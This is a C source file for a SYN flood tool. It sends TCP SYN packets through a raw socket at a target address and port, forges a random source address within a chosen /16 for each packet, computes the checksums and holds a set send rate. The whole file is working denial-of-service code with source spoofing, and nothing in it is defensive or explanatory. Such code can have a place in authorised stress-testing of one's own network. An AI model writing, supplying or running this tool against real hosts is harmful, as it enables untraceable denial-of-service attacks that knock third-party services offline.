/*
 * Sends SYNs with forged sources by a raw socket: flood SOURCE-NETWORK DESTINATION PORT COUNT PER-SECOND.
 *
 * SOURCE-NETWORK is the first 16 bits of the sources, as in 10.88; the rest of each is made up. Prints how many went in
 * how many microseconds.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static uint64_t state = 88172645463325252ull;
static uint64_t draw(void) {
  state ^= state << 13;
  state ^= state >> 7;
  return state ^= state << 17;
}

static int64_t now_us(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000ll + t.tv_nsec / 1000;
}

static uint32_t sum(const void *data, int bytes) {
  const uint16_t *words = data;
  uint32_t total = 0;
  for (int i = 0; i < bytes / 2; i++) total += words[i];
  return total;
}

static uint16_t finish(uint32_t total) {
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return ~total;
}

int main(int count_of_words, char **words) {
  if (count_of_words != 6) return 2;
  int first, second;
  if (sscanf(words[1], "%d.%d", &first, &second) != 2) return 2;
  struct sockaddr_in to = {.sin_family = AF_INET};
  inet_pton(AF_INET, words[2], &to.sin_addr);
  long count = atol(words[4]), per_second = atol(words[5]);
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s < 0) return perror("socket"), 1;
  struct {
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[4];
  } frame;
  memset(&frame, 0, sizeof frame);
  frame.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = 6, .tot_len = htons(sizeof frame)};
  frame.ip.daddr = to.sin_addr.s_addr;
  frame.tcp.dest = htons(atoi(words[3]));
  frame.tcp.doff = 6;
  frame.tcp.syn = 1;
  frame.tcp.window = htons(64240);
  memcpy(frame.options, (uint8_t[]){2, 4, 5, 180}, 4);
  int64_t start = now_us();
  long sent = 0;
  for (; sent < count; sent++) {
    /* Late, it catches up; early, it waits: the rate is kept on the whole. */
    while ((now_us() - start) * per_second / 1000000 < sent) {
      struct timespec pause = {.tv_nsec = 200000};
      nanosleep(&pause, NULL);
    }
    uint64_t drawn = draw();
    frame.ip.saddr = htonl((uint32_t)first << 24 | (uint32_t)second << 16 | (drawn & 0xffff));
    frame.tcp.source = htons(1024 + (drawn >> 16) % 60000);
    frame.tcp.seq = (uint32_t)(drawn >> 32);
    frame.tcp.check = 0;
    uint32_t total = sum(&frame.ip.saddr, 8) + htons(6) + htons(24) + sum(&frame.tcp, 24);
    frame.tcp.check = finish(total);
    sendto(s, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to);
  }
  printf("%ld %lld\n", sent, (long long)(now_us() - start));
  return 0;
}
